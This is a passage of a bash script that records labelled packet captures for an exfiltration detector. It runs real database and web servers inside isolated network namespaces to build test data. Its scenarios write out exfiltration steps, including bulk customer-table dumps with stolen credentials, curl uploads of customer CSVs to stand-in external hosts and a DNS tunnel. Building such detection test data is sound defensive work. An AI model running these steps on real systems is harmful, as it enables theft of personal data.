#!/bin/bash
# record.sh - record Breachwatch's scenario captures, server logs and truth files from
# real servers (PostgreSQL 15, MariaDB, nginx, dnsmasq) running in network namespaces.
#
# Usage (as root):  pcaps/record.sh [SCENARIO...]     (default: all scenarios)
# Writes pcaps/<scenario>.pcap + .truth.json and pcaps/logs/*. Everything it creates
# (namespaces bwrec-*, bridge bwrec-br0, servers, the temp folder) is removed on exit,
# also on failure. Traffic never leaves the namespaces it creates.
set -euo pipefail

HERE=$(cd "$(dirname "$0")" && pwd)
OUT=${BWREC_OUT:-$HERE}
PY=/usr/bin/python3
PKGS="postgresql-15 mariadb-server mariadb-client nginx dnsmasq-base tcpdump tcpreplay tshark openssl python3 curl ethtool iproute2 procps util-linux"
PGBIN=/usr/lib/postgresql/15/bin
export TZ=UTC LC_ALL=C.UTF-8

ALL_SCENARIOS="exfil-pgsql-bulk exfil-mysql-bulk exfil-pgdump exfil-pgsql-drip exfil-api-scrape
 exfil-http-upload exfil-dns-tunnel exfil-tls-upload benign-app-lookups benign-api-lookups
 benign-aggregate benign-download benign-dns benign-backup"

missing=""
for p in $PKGS; do dpkg -s "$p" >/dev/null 2>&1 || missing="$missing $p"; done
if [ "$(id -u)" != 0 ]; then
	echo "record.sh must run as root (it creates network namespaces)." >&2
	[ -n "$missing" ] && echo "First install: apt-get install -y$missing" >&2
	exit 1
fi
if [ -n "$missing" ]; then
	echo "== installing:$missing"
	DEBIAN_FRONTEND=noninteractive apt-get install -y --no-install-recommends $missing
fi

SCENARIOS=${*:-$ALL_SCENARIOS}
TMP=$(mktemp -d /tmp/bwrec.XXXXXX)
chmod 755 "$TMP"
DATA=$TMP/data RAW=$TMP/raw STATS=$TMP/stats
mkdir -p "$DATA" "$RAW" "$STATS"
cp -r "$HERE/helpers" "$TMP/helpers"   # servers run as their own users; they may not see $HERE
chmod -R a+rX "$TMP/helpers"

# host name, address (the external namespace gets several), MAC
HOSTS="db web app analyst backup dns comp ext"
declare -A IP=([db]=10.77.0.10 [web]=10.77.0.20 [app]=10.77.0.30 [analyst]=10.77.0.40
	[backup]=10.77.0.50 [dns]=10.77.0.53 [comp]=10.77.0.66
	[ext]="198.18.0.11 198.18.0.12 198.18.0.13 198.18.0.14 198.18.0.15")
declare -A MAC=([db]=02:77:00:00:00:0a [web]=02:77:00:00:00:14 [app]=02:77:00:00:00:1e
	[analyst]=02:77:00:00:00:28 [backup]=02:77:00:00:00:32 [dns]=02:77:00:00:00:35
	[comp]=02:77:00:00:00:42 [ext]=02:18:00:00:00:01)
# record-time external address -> public test address (see geo-addresses.json)
PNAT=198.18.0.11/32:89.160.20.112/32,198.18.0.12/32:175.16.199.1/32,198.18.0.13/32:216.160.83.56/32,198.18.0.14/32:81.2.69.142/32,198.18.0.15/32:2.125.160.216/32
PW=rec0rder-Pw   # password of every database user (they are made and destroyed here)

PIDS=()
in_ns() { local h=$1; shift; ip netns exec "bwrec-$h" "$@"; }
bg_ns() {
	local h=$1
	shift
	ip netns exec "bwrec-$h" "$@" &
	PIDS+=($!)
	disown $!
}
log() { echo "== $*"; }

cleanup() {
	set +e
	log "cleaning up"
	[ -n "${TCPDUMP_PID:-}" ] && kill -INT "$TCPDUMP_PID" 2>/dev/null
	[ -S "$TMP/my/mysqld.sock" ] && in_ns db mariadb-admin --no-defaults -S "$TMP/my/mysqld.sock" -u root shutdown 2>/dev/null
	if [ -f "$TMP/pg/postmaster.pid" ]; then
		in_ns db runuser -u postgres -- "$PGBIN/pg_ctl" -D "$TMP/pg" -m fast -w stop >/dev/null 2>&1
	fi
	[ -f "$TMP/web/nginx.pid" ] && kill -QUIT "$(cat "$TMP/web/nginx.pid")" 2>/dev/null
	[ -f "$TMP/ext/nginx.pid" ] && kill -QUIT "$(cat "$TMP/ext/nginx.pid")" 2>/dev/null
	for p in "${PIDS[@]}"; do kill -TERM "$p" 2>/dev/null; done
	sleep 1
	# whatever still runs inside our own namespaces was started by this script
	for h in $HOSTS sw; do
		for p in $(ip netns pids "bwrec-$h" 2>/dev/null); do kill -KILL "$p" 2>/dev/null; done
	done
	for h in $HOSTS sw; do ip netns del "bwrec-$h" 2>/dev/null; done
	rm -rf "$TMP"
}
trap cleanup EXIT
trap 'exit 130' INT TERM

# ---------------------------------------------------------------- network
setup_net() {
	log "network namespaces on bridge bwrec-br0"
	for h in $HOSTS sw; do
		ip netns del "bwrec-$h" 2>/dev/null || true
		ip netns add "bwrec-$h"
		in_ns "$h" sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1
		in_ns "$h" ip link set lo up
	done
	ip -n bwrec-sw link add bwrec-br0 type bridge stp_state 0 forward_delay 0 mcast_snooping 0
	for h in $HOSTS; do
		ip -n bwrec-sw link add "v-$h" type veth peer name eth0 netns "bwrec-$h"
		ip -n bwrec-sw link set "v-$h" master bwrec-br0 up
		ip -n "bwrec-$h" link set eth0 address "${MAC[$h]}" up
		# no segmentation/checksum offload: the capture holds wire-sized frames with
		# correct checksums, as a SPAN port would see them
		in_ns sw ethtool -K "v-$h" tso off gso off gro off tx off rx off sg off >/dev/null 2>&1 || true
		in_ns "$h" ethtool -K eth0 tso off gso off gro off tx off rx off sg off >/dev/null 2>&1 || true
		if [ "$h" = ext ]; then
			for a in ${IP[ext]}; do ip -n bwrec-ext addr add "$a/15" dev eth0; done
			ip -n bwrec-ext route add 10.77.0.0/24 dev eth0
		else
			ip -n "bwrec-$h" addr add "${IP[$h]}/24" dev eth0
			ip -n "bwrec-$h" route add 198.18.0.0/15 dev eth0
		fi
	done
	ip -n bwrec-sw link set bwrec-br0 up
	# static neighbours: no ARP in the captures
	for h in $HOSTS; do
		for o in $HOSTS; do
			[ "$o" = "$h" ] && continue
			for a in ${IP[$o]}; do
				ip -n "bwrec-$h" neigh replace "$a" lladdr "${MAC[$o]}" dev eth0 nud permanent
			done
		done
	done
}

# ---------------------------------------------------------------- servers
wait_port() { # host addr port
	for _ in $(seq 100); do
		in_ns "$1" bash -c "exec 3<>/dev/tcp/$2/$3" 2>/dev/null && return 0
		sleep 0.2
	done
	echo "server $2:$3 did not come up" >&2
	return 1
}

start_postgres() {
	log "PostgreSQL 15 on 10.77.0.10:5432"
	mkdir -p "$TMP/pg" "$TMP/pgsock" "$TMP/pglog"
	chown postgres: "$TMP/pg" "$TMP/pgsock" "$TMP/pglog"
	in_ns db runuser -u postgres -- "$PGBIN/initdb" -D "$TMP/pg" -E UTF8 --locale=C.UTF-8 -U postgres \
		--auth-local=peer --auth-host=scram-sha-256 >/dev/null
	cat >>"$TMP/pg/postgresql.conf" <<-EOF
		listen_addresses = '10.77.0.10'
		port = 5432
		unix_socket_directories = '$TMP/pgsock'
		ssl = off
		max_connections = 40
		shared_buffers = 32MB
		timezone = 'UTC'
		log_timezone = 'UTC'
		log_destination = 'stderr'
		logging_collector = off
		log_line_prefix = '%m [%p] %q%u@%d %h '
		log_connections = on
		log_disconnections = on
		log_statement = 'none'
		log_duration = off
	EOF
	cat >"$TMP/pg/pg_hba.conf" <<-EOF
		local all postgres peer
		host  shop app,analyst,backup 10.77.0.0/24 scram-sha-256
	EOF
	in_ns db runuser -u postgres -- "$PGBIN/pg_ctl" -D "$TMP/pg" -l "$TMP/pglog/postgresql.log" -w start >/dev/null
	local psql="$PGBIN/psql -X -q -v ON_ERROR_STOP=1 -h $TMP/pgsock -U postgres"
	in_ns db runuser -u postgres -- $psql -d postgres <<-EOF
		CREATE ROLE app LOGIN PASSWORD '$PW';
		CREATE ROLE analyst LOGIN PASSWORD '$PW';
		CREATE ROLE backup LOGIN PASSWORD '$PW';
		CREATE DATABASE shop OWNER postgres;
	EOF
	in_ns db runuser -u postgres -- $psql -d shop -f "$DATA/pg.sql" >/dev/null
	in_ns db runuser -u postgres -- $psql -d shop <<-EOF
		GRANT SELECT ON customers TO app, analyst, backup;
		ALTER SYSTEM SET log_statement = 'all';
		ALTER SYSTEM SET log_duration = on;
		SELECT pg_reload_conf();
	EOF
	sleep 0.5
	: >"$TMP/pglog/postgresql.log"   # keep only the scenarios in the log
}

start_mariadb() {
	log "MariaDB on 10.77.0.10:3306"
	mkdir -p "$TMP/my/data" "$TMP/my/log"
	chown -R mysql: "$TMP/my"
	in_ns db mariadb-install-db --no-defaults --user=mysql --datadir="$TMP/my/data" \
		--auth-root-authentication-method=socket --skip-test-db >/dev/null 2>&1
	bg_ns db /usr/sbin/mariadbd --no-defaults --user=mysql --datadir="$TMP/my/data" \
		--socket="$TMP/my/mysqld.sock" --pid-file="$TMP/my/mysqld.pid" \
		--bind-address=10.77.0.10 --port=3306 --skip-name-resolve \
		--log-error="$TMP/my/log/error.log" --character-set-server=utf8mb4 \
		--collation-server=utf8mb4_general_ci --innodb-buffer-pool-size=64M \
		--slow-query-log=0 --slow-query-log-file="$TMP/my/log/mariadb-slow.log" --long-query-time=0
	wait_port db 10.77.0.10 3306
	local my="mariadb --no-defaults -S $TMP/my/mysqld.sock -u root"
	in_ns db $my <<-EOF
		CREATE DATABASE shop CHARACTER SET utf8mb4;
		CREATE USER 'app'@'10.77.0.%' IDENTIFIED BY '$PW';
		CREATE USER 'analyst'@'10.77.0.%' IDENTIFIED BY '$PW';
		GRANT SELECT ON shop.* TO 'app'@'10.77.0.%', 'analyst'@'10.77.0.%';
	EOF
	in_ns db $my shop <"$DATA/mysql.sql" >/dev/null
	in_ns db $my -e "SET GLOBAL slow_query_log = 1"
}

start_web() {
	log "API backend + nginx (80, 443/TLS) on 10.77.0.20"
	mkdir -p "$TMP/web/tmp" "$TMP/web/log"
	chown www-data: "$TMP/web/tmp"
	openssl req -x509 -newkey rsa:2048 -nodes -days 30 -subj "/CN=shop.corp.test" \
		-addext "subjectAltName=DNS:shop.corp.test" \
		-keyout "$TMP/web/key.pem" -out "$TMP/web/cert.pem" 2>/dev/null
	bg_ns web setpriv --reuid=www-data --regid=www-data --init-groups $PY "$TMP/helpers/api-server.py" "$DATA/customers.json" 127.0.0.1 8080
	cat >"$TMP/web/nginx.conf" <<-EOF
		user www-data;
		worker_processes 1;
		pid $TMP/web/nginx.pid;
		error_log $TMP/web/log/error.log;
		events { worker_connections 256; }
		http {
		    include /etc/nginx/mime.types;
		    access_log $TMP/web/log/access.log combined;
		    client_body_temp_path $TMP/web/tmp/body;
		    proxy_temp_path $TMP/web/tmp/proxy;
		    fastcgi_temp_path $TMP/web/tmp/fastcgi;
		    uwsgi_temp_path $TMP/web/tmp/uwsgi;
		    scgi_temp_path $TMP/web/tmp/scgi;
		    gzip off;
		    server_tokens off;
		    server {
		        listen 10.77.0.20:80;
		        listen 10.77.0.20:443 ssl;
		        server_name shop.corp.test;
		        ssl_certificate $TMP/web/cert.pem;
		        ssl_certificate_key $TMP/web/key.pem;
		        location /api/ {
		            proxy_pass http://127.0.0.1:8080;
		            proxy_set_header Host \$host;
		            proxy_set_header X-Forwarded-For \$remote_addr;
		        }
		        location / { return 200 "shop\n"; }
		    }
		}
	EOF
	in_ns web nginx -c "$TMP/web/nginx.conf"
	wait_port web 127.0.0.1 8080
	wait_port web 10.77.0.20 80
}

start_ext() {
	log "external hosts: nginx upload receivers + mirror, dnsmasq for exfil-tunnel.test"
	mkdir -p "$TMP/ext/tmp" "$TMP/ext/log" "$TMP/ext/www/files"
	chown www-data: "$TMP/ext/tmp"
	openssl req -x509 -newkey rsa:2048 -nodes -days 30 -subj "/CN=sync.cloud-drive.example" \
		-addext "subjectAltName=DNS:sync.cloud-drive.example,DNS:mirror.example.org" \
		-keyout "$TMP/ext/key.pem" -out "$TMP/ext/cert.pem" 2>/dev/null
	# the "large inbound download": 4 MiB of incompressible bytes from a fixed seed
	$PY -c "import random,sys; sys.stdout.buffer.write(random.Random(4).randbytes(4<<20))" \
		>"$TMP/ext/www/files/vendor-update-2.4.1.tar.xz"
	bg_ns ext setpriv --reuid=www-data --regid=www-data --init-groups $PY "$TMP/helpers/upload-sink.py" 127.0.0.1 8081
	cat >"$TMP/ext/nginx.conf" <<-EOF
		user www-data;
		worker_processes 1;
		pid $TMP/ext/nginx.pid;
		error_log $TMP/ext/log/error.log;
		events { worker_connections 256; }
		http {
		    include /etc/nginx/mime.types;
		    access_log $TMP/ext/log/access.log combined;
		    client_body_temp_path $TMP/ext/tmp/body;
		    proxy_temp_path $TMP/ext/tmp/proxy;
		    fastcgi_temp_path $TMP/ext/tmp/fastcgi;
		    uwsgi_temp_path $TMP/ext/tmp/uwsgi;
		    scgi_temp_path $TMP/ext/tmp/scgi;
		    client_max_body_size 64m;
		    gzip off;
		    server_tokens off;
		    ssl_certificate $TMP/ext/cert.pem;
		    ssl_certificate_key $TMP/ext/key.pem;
		    server {
		        listen 198.18.0.11:80;
		        listen 198.18.0.13:443 ssl;
		        server_name files.dropzone.example sync.cloud-drive.example;
		        location / { proxy_pass http://127.0.0.1:8081; }
		    }
		    server {
		        listen 198.18.0.15:80;
		        listen 198.18.0.15:443 ssl;
		        server_name mirror.example.org;
		        root $TMP/ext/www;
		    }
		}
	EOF
	in_ns ext nginx -c "$TMP/ext/nginx.conf"
	bg_ns ext dnsmasq --keep-in-foreground --no-resolv --no-hosts --no-poll --bind-interfaces \
		--listen-address=198.18.0.12 --user=dnsmasq --pid-file="$TMP/ext/dnsmasq.pid" \
		--address=/exfil-tunnel.test/175.16.199.1 --log-queries --log-facility="$TMP/ext/log/dnsmasq.log"
	wait_port ext 127.0.0.1 8081
	wait_port ext 198.18.0.15 443
}

start_dns() {
	log "internal resolver dnsmasq on 10.77.0.53"
	mkdir -p "$TMP/dns"
	touch "$TMP/dns/dnsmasq.log"
	chown dnsmasq "$TMP/dns/dnsmasq.log"
	# Answers carry the public test addresses, so nothing in a payload needs rewriting.
	bg_ns dns dnsmasq --keep-in-foreground --no-resolv --no-hosts --no-poll --bind-interfaces \
		--listen-address=10.77.0.53 --user=dnsmasq --pid-file="$TMP/dns/dnsmasq.pid" \
		--log-queries --log-facility="$TMP/dns/dnsmasq.log" --domain=corp.test --local=/corp.test/ \
		--host-record=db.corp.test,10.77.0.10 --host-record=shop.corp.test,10.77.0.20 \
		--host-record=app.corp.test,10.77.0.30 --host-record=backup.corp.test,10.77.0.50 \
		--host-record=ns.corp.test,10.77.0.53 --host-record=mail.corp.test,10.77.0.25 \
		--mx-host=corp.test,mail.corp.test,10 --txt-record=corp.test,"v=spf1 mx -all" \
		--host-record=mirror.example.org,2.125.160.216 \
		--host-record=sync.cloud-drive.example,216.160.83.56 \
		--host-record=files.dropzone.example,89.160.20.112 \
		--host-record=www.example.com,93.184.216.34 \
		--server=/exfil-tunnel.test/198.18.0.12
	sleep 1
}

# ---------------------------------------------------------------- capture
capture_start() { # scenario
	rm -f "$RAW/$1.pcap"
	ip netns exec bwrec-sw tcpdump -i bwrec-br0 -s 65535 -U -n -Z root -w "$RAW/$1.pcap" ip \
		2>"$RAW/$1.tcpdump.log" &
	TCPDUMP_PID=$!
	for _ in $(seq 50); do grep -q listening "$RAW/$1.tcpdump.log" 2>/dev/null && break; sleep 0.1; done
	sleep 0.5
	date +%s.%N >"$STATS/$1.start"
}

capture_stop() { # scenario
	sleep 1
	date +%s.%N >"$STATS/$1.end"
	kill -INT "$TCPDUMP_PID"
	wait "$TCPDUMP_PID" || true
	TCPDUMP_PID=
	grep -E 'captured|dropped by kernel' "$RAW/$1.tcpdump.log" | tr '\n' ' '
	echo
	tcprewrite --pnat="$PNAT" --fixcsum -i "$RAW/$1.pcap" -o "$OUT/$1.pcap"
}

# truth SCENARIO: a scenario states its facts (JSON on stdin); make_truth adds the
# exposed records and categories, counted from the generated rows, and the capture's facts.
truth() { cat >"$STATS/$1.spec"; }
make_truth() {
	$PY "$HERE/helpers/mktruth.py" --scenario "$1" --csv "$DATA/customers.csv" \
		--geo "$HERE/geo-addresses.json" --stats "$STATS" --pcap "$OUT/$1.pcap" \
		--out "$OUT/$1.truth.json"
}

# ---------------------------------------------------------------- clients
# pgq HOST USER SQL: one psql connection, simple query protocol, no TLS
pgq() {
	in_ns "$1" env PGPASSWORD=$PW "$PGBIN/psql" -X -q -At \
		"host=10.77.0.10 port=5432 dbname=shop user=$2 sslmode=disable gssencmode=disable" -c "$3" >/dev/null
}
myq() { # HOST USER SQL
	in_ns "$1" mariadb --no-defaults --skip-ssl -h 10.77.0.10 -P 3306 -u "$2" -p"$PW" -B shop -e "$3" >/dev/null
}
COLS_ALL='["name","email","phone","cn_resident_id","card_number","ssn","address","birth_date","country"]'

# ---------------------------------------------------------------- scenarios
sc_exfil_pgsql_bulk() {
	pgq comp app "SELECT count(*) FROM customers"
	sleep 0.5
	pgq comp app "SELECT * FROM customers"
	truth exfil-pgsql-bulk <<-EOF
		{"label": "exfil", "actor_ip": "10.77.0.66", "user": "app", "server_ip": "10.77.0.10",
		 "server_port": 5432, "channel": "pgsql", "dataset": "public.customers", "dest_ip": "10.77.0.66",
		 "description": "compromised host reads the whole customers table with stolen app credentials",
		 "exposed": {"where": {}, "columns": $COLS_ALL},
		 "rows_by_query": [{"query": "SELECT count(*) FROM customers", "queries": 1, "rows": 1, "customer_rows": false},
		                   {"query": "SELECT * FROM customers", "queries": 1, "rows": 10000, "customer_rows": true}]}
	EOF
}

sc_exfil_mysql_bulk() {
	myq comp app "SELECT COUNT(*) FROM customers"
	sleep 0.5
	myq comp app "SELECT id, name, email, phone, cn_resident_id, card_number FROM customers WHERE country = 'CN'"
	truth exfil-mysql-bulk <<-EOF
		{"label": "exfil", "actor_ip": "10.77.0.66", "user": "app", "server_ip": "10.77.0.10",
		 "server_port": 3306, "channel": "mysql", "dataset": "shop.customers", "dest_ip": "10.77.0.66",
		 "description": "compromised host reads every Chinese customer (identity columns) from MariaDB",
		 "exposed": {"where": {"country": "CN"}, "columns": ["name","email","phone","cn_resident_id","card_number"]},
		 "rows_by_query": [{"query": "SELECT COUNT(*) FROM customers", "queries": 1, "rows": 1, "customer_rows": false},
		                   {"query": "SELECT id, name, email, phone, cn_resident_id, card_number FROM customers WHERE country = 'CN'", "queries": 1, "rows": "@records", "customer_rows": true}]}
	EOF
}

pgdump() { # HOST USER ARGS...
	local h=$1 u=$2
	shift 2
	in_ns "$h" env PGPASSWORD=$PW "$PGBIN/pg_dump" \
		"host=10.77.0.10 port=5432 dbname=shop user=$u sslmode=disable gssencmode=disable" "$@" >/dev/null
}

sc_exfil_pgdump() {
	pgdump comp backup -t public.customers
	truth exfil-pgdump <<-EOF
		{"label": "exfil", "actor_ip": "10.77.0.66", "user": "backup", "server_ip": "10.77.0.10",
		 "server_port": 5432, "channel": "pgsql", "dataset": "public.customers", "dest_ip": "10.77.0.66",
		 "description": "pg_dump of the customers table (COPY ... TO stdout) with the backup account's stolen password, from a host that is not the backup host",
		 "exposed": {"where": {}, "columns": $COLS_ALL},
		 "rows_by_query": [{"prefix": "COPY public.customers ", "queries": 1, "rows": 10000, "customer_rows": true, "message": "CopyData"}],
		 "note": "pg_dump's own catalog queries also return DataRows; they are not customer records and are not listed"}
	EOF
}

sc_exfil_pgsql_drip() {
	local k
	for k in $(seq 0 119); do
		pgq analyst analyst "SELECT * FROM customers ORDER BY id LIMIT 25 OFFSET $((2000 + 25 * k))"
		sleep 0.4
	done
	truth exfil-pgsql-drip <<-EOF
		{"label": "exfil", "actor_ip": "10.77.0.40", "user": "analyst", "server_ip": "10.77.0.10",
		 "server_port": 5432, "channel": "pgsql", "dataset": "public.customers", "dest_ip": "10.77.0.40",
		 "description": "slow drip: 120 connections, each one SELECT ... LIMIT 25 OFFSET n, 0.4 s apart, ids 2001-5000",
		 "exposed": {"where": {"id_range": [2001, 5000]}, "columns": $COLS_ALL},
		 "rows_by_query": [{"prefix": "SELECT * FROM customers ORDER BY id LIMIT 25 OFFSET ", "queries": 120, "rows": 3000, "customer_rows": true}]}
	EOF
}

sc_exfil_api_scrape() {
	in_ns ext curl -s -o /dev/null --rate 5/s -A "Mozilla/5.0 (compatible; DataHarvester/1.2)" \
		--interface 198.18.0.14 -H "Host: shop.corp.test" \
		"http://10.77.0.20/api/customers?page=[1-40]&per_page=50"
	truth exfil-api-scrape <<-EOF
		{"label": "exfil", "actor_ip": "81.2.69.142", "server_ip": "10.77.0.20", "server_port": 80,
		 "channel": "http", "dataset": "/api/customers", "dest_ip": "81.2.69.142",
		 "description": "external client pages through the customer API: 40 GETs of 50 records on one keep-alive connection, 5 per second",
		 "exposed": {"where": {"id_range": [1, 2000]}, "columns": $COLS_ALL},
		 "requests": 40, "per_page": 50}
	EOF
}

csv_rows() { # FIRST LAST -> file with header + those customers
	local f="$TMP/rows-$1-$2.csv"
	{ head -1 "$DATA/customers.csv"; sed -n "$(($1 + 1)),$(($2 + 1))p" "$DATA/customers.csv"; } >"$f"
	echo "$f"
}

sc_exfil_http_upload() {
	local f
	f=$(csv_rows 1 2000)
	in_ns comp curl -s -o /dev/null -A "curl/7.88.1" -H "Content-Type: text/csv" \
		--resolve files.dropzone.example:80:198.18.0.11 --data-binary @"$f" \
		http://files.dropzone.example/upload/customers-export.csv
	truth exfil-http-upload <<-EOF
		{"label": "exfil", "actor_ip": "10.77.0.66", "server_ip": "89.160.20.112", "server_port": 80,
		 "channel": "http", "dataset": "customers-export.csv", "dest_ip": "89.160.20.112",
		 "description": "compromised host POSTs a CSV of 2000 customers (header + rows, text/csv) to an external host",
		 "exposed": {"where": {"id_range": [1, 2000]}, "columns": $COLS_ALL},
		 "upload_bytes": $(stat -c %s "$f"), "http_host": "files.dropzone.example", "uri": "/upload/customers-export.csv"}
	EOF
}

sc_exfil_dns_tunnel() {
	in_ns comp $PY "$HERE/helpers/dnsq.py" tunnel 10.77.0.53 exfil-tunnel.test "$DATA/customers.csv" 1 300 \
		>"$STATS/exfil-dns-tunnel.json"
	truth exfil-dns-tunnel <<-EOF
		{"label": "exfil", "actor_ip": "10.77.0.66", "server_ip": "10.77.0.53", "server_port": 53,
		 "channel": "dns", "dataset": "exfil-tunnel.test", "dest_ip": "175.16.199.1",
		 "description": "customers 1-300 as CSV lines, base32 (lower case, no padding) in up to 3 labels of 60 characters, A queries <data>.r<id>p<part>of<n>.<session>.exfil-tunnel.test sent to the internal resolver, which forwards them to the attacker's name server",
		 "exposed": {"where": {"id_range": [1, 300]}, "columns": $COLS_ALL},
		 "encoding": "base32"}
	EOF
}

sc_exfil_tls_upload() {
	local f
	f=$(csv_rows 1 10000)
	in_ns comp curl -sk -o /dev/null -A "rclone/v1.60.1" -H "Content-Type: application/octet-stream" \
		--resolve sync.cloud-drive.example:443:198.18.0.13 --data-binary @"$f" \
		https://sync.cloud-drive.example/upload/backup.bin
	truth exfil-tls-upload <<-EOF
		{"label": "exfil", "actor_ip": "10.77.0.66", "server_ip": "216.160.83.56", "server_port": 443,
		 "channel": "tls", "dataset": null, "dest_ip": "216.160.83.56",
		 "description": "compromised host uploads the whole table as CSV inside TLS to an external host (SNI sync.cloud-drive.example); only sizes and direction are visible",
		 "exposed": {"where": {}, "columns": $COLS_ALL},
		 "upload_bytes": $(stat -c %s "$f"), "sni": "sync.cloud-drive.example"}
	EOF
}

sc_benign_app_lookups() {
	local ids
	ids=$($PY -c "import random; print(' '.join(map(str, random.Random(30).sample(range(1, 10001), 200))))")
	echo "$ids" >"$TMP/lookup-ids"
	{
		for i in $ids; do
			echo "SELECT * FROM customers WHERE id = $i;"
			sleep 0.05
		done
	} | in_ns app env PGPASSWORD=$PW "$PGBIN/psql" -X -q -At \
		"host=10.77.0.10 port=5432 dbname=shop user=app sslmode=disable gssencmode=disable" >/dev/null
	truth benign-app-lookups <<-EOF
		{"label": "benign", "actor_ip": "10.77.0.30", "user": "app", "server_ip": "10.77.0.10",
		 "server_port": 5432, "channel": "pgsql", "dataset": "public.customers", "dest_ip": "10.77.0.30",
		 "description": "the app server looks up 200 distinct customers by id, one row per query, on one connection",
		 "exposed": {"where": {"ids": [$(echo "$ids" | tr ' ' ',')]}, "columns": $COLS_ALL},
		 "rows_by_query": [{"prefix": "SELECT * FROM customers WHERE id = ", "queries": 200, "rows": 200, "customer_rows": true}]}
	EOF
}

sc_benign_api_lookups() {
	local ids urls=()
	ids=$($PY -c "import random; print(' '.join(map(str, random.Random(31).sample(range(1, 10001), 25))))")
	for i in $ids; do urls+=("http://10.77.0.20/api/customers/$i"); done
	for u in "${urls[@]}"; do
		in_ns app curl -s -o /dev/null -A "shop-app/3.2 (+internal)" -H "Host: shop.corp.test" "$u"
		sleep 0.2
	done
	truth benign-api-lookups <<-EOF
		{"label": "benign", "actor_ip": "10.77.0.30", "server_ip": "10.77.0.20", "server_port": 80,
		 "channel": "http", "dataset": "/api/customers", "dest_ip": "10.77.0.30",
		 "description": "the app server fetches 25 single customers from the API (GET /api/customers/{id}), one connection each",
		 "exposed": {"where": {"ids": [$(echo "$ids" | tr ' ' ',')]}, "columns": $COLS_ALL},
		 "requests": 25}
	EOF
}

sc_benign_aggregate() {
	local q1="SELECT country, COUNT(*) AS n FROM customers GROUP BY country ORDER BY country"
	local q2="SELECT YEAR(birth_date) DIV 10 * 10 AS decade, COUNT(*) AS n FROM customers GROUP BY decade ORDER BY decade"
	local q3="SELECT COUNT(*) FROM customers WHERE ssn IS NOT NULL"
	local q4="SELECT LEFT(card_number, 2) AS bin2, COUNT(*) AS n FROM customers GROUP BY bin2 HAVING n > 500 ORDER BY bin2"
	local q
	for q in "$q1" "$q2" "$q3" "$q4"; do
		myq analyst analyst "$q"
		sleep 0.5
	done
	$PY - "$DATA/customers.csv" >"$STATS/benign-aggregate.rows" <<-'EOF'
		import csv, sys, collections
		r = list(csv.DictReader(open(sys.argv[1], encoding="utf-8")))
		b = collections.Counter(x["card_number"][:2] for x in r)
		print(len({x["country"] for x in r}), len({int(x["birth_date"][:4]) // 10 for x in r}), 1,
		      sum(1 for v in b.values() if v > 500))
	EOF
	local n1 n2 n3 n4
	read -r n1 n2 n3 n4 <"$STATS/benign-aggregate.rows"
	truth benign-aggregate <<-EOF
		{"label": "benign", "actor_ip": "10.77.0.40", "user": "analyst", "server_ip": "10.77.0.10",
		 "server_port": 3306, "channel": "mysql", "dataset": "shop.customers", "dest_ip": "10.77.0.40",
		 "description": "analyst runs four aggregate reports (GROUP BY / COUNT) on MariaDB: many rows scanned, no customer record leaves",
		 "exposed": {"where": {"ids": []}, "columns": []},
		 "rows_by_query": [{"query": "$q1", "queries": 1, "rows": $n1, "customer_rows": false},
		                   {"query": "$q2", "queries": 1, "rows": $n2, "customer_rows": false},
		                   {"query": "$q3", "queries": 1, "rows": $n3, "customer_rows": false},
		                   {"query": "$q4", "queries": 1, "rows": $n4, "customer_rows": false}]}
	EOF
}

sc_benign_download() {
	in_ns analyst curl -sk -o /dev/null -A "Debian APT-HTTP/1.3 (2.6.1)" \
		--resolve mirror.example.org:443:198.18.0.15 https://mirror.example.org/files/vendor-update-2.4.1.tar.xz
	truth benign-download <<-EOF
		{"label": "benign", "actor_ip": "10.77.0.40", "server_ip": "2.125.160.216", "server_port": 443,
		 "channel": "tls", "dataset": null, "dest_ip": "10.77.0.40",
		 "description": "analyst workstation downloads a 4 MiB update over HTTPS from an external mirror (SNI mirror.example.org): large, but inbound",
		 "exposed": {"where": {"ids": []}, "columns": []},
		 "download_bytes": 4194304, "sni": "mirror.example.org"}
	EOF
}

sc_benign_dns() {
	in_ns analyst $PY "$HERE/helpers/dnsq.py" benign 10.77.0.53 shop.corp.test:A db.corp.test:A \
		corp.test:MX mail.corp.test:A corp.test:TXT www.example.com:A mirror.example.org:A \
		shop.corp.test:AAAA www.example.com:A app.corp.test:A backup.corp.test:A ns.corp.test:A \
		sync.cloud-drive.example:A intranet.corp.test:A >"$STATS/benign-dns.a.json"
	in_ns app $PY "$HERE/helpers/dnsq.py" benign 10.77.0.53 db.corp.test:A db.corp.test:A \
		shop.corp.test:A mail.corp.test:A corp.test:MX db.corp.test:AAAA >"$STATS/benign-dns.b.json"
	$PY -c 'import json,sys; a=[json.load(open(f)) for f in sys.argv[1:]]; print(json.dumps({"queries": sum(x["queries"] for x in a), "answered": sum(x["answered"] for x in a)}))' \
		"$STATS/benign-dns.a.json" "$STATS/benign-dns.b.json" >"$STATS/benign-dns.json"
	truth benign-dns <<-EOF
		{"label": "benign", "actor_ip": "10.77.0.40", "server_ip": "10.77.0.53", "server_port": 53,
		 "channel": "dns", "dataset": null, "dest_ip": "10.77.0.40",
		 "description": "ordinary look-ups of internal and public names by the analyst workstation (14) and the app server (6)",
		 "exposed": {"where": {"ids": []}, "columns": []},
		 "actors": ["10.77.0.40", "10.77.0.30"]}
	EOF
}

sc_benign_backup() {
	pgdump backup backup
	truth benign-backup <<-EOF
		{"label": "benign", "actor_ip": "10.77.0.50", "user": "backup", "server_ip": "10.77.0.10",
		 "server_port": 5432, "channel": "pgsql", "dataset": "public.customers", "dest_ip": "10.77.0.50",
		 "description": "nightly pg_dump of database shop by the allow-listed backup host 10.77.0.50 as user backup",
		 "allow_list": {"ip": "10.77.0.50", "user": "backup"},
		 "exposed": {"where": {}, "columns": $COLS_ALL},
		 "rows_by_query": [{"prefix": "COPY public.customers ", "queries": 1, "rows": 10000, "customer_rows": true, "message": "CopyData"}],
		 "note": "pg_dump's own catalog queries also return DataRows; they are not customer records and are not listed"}
	EOF
}

# ---------------------------------------------------------------- logs
collect_logs() {
	log "server logs -> $OUT/logs"
	mkdir -p "$OUT/logs"
	local sedmap="s|$TMP|/tmp/bwrec|g; s/198\.18\.0\.11/89.160.20.112/g; s/198\.18\.0\.12/175.16.199.1/g; s/198\.18\.0\.13/216.160.83.56/g; s/198\.18\.0\.14/81.2.69.142/g; s/198\.18\.0\.15/2.125.160.216/g"
	in_ns db runuser -u postgres -- "$PGBIN/pg_ctl" -D "$TMP/pg" -m fast -w stop >/dev/null
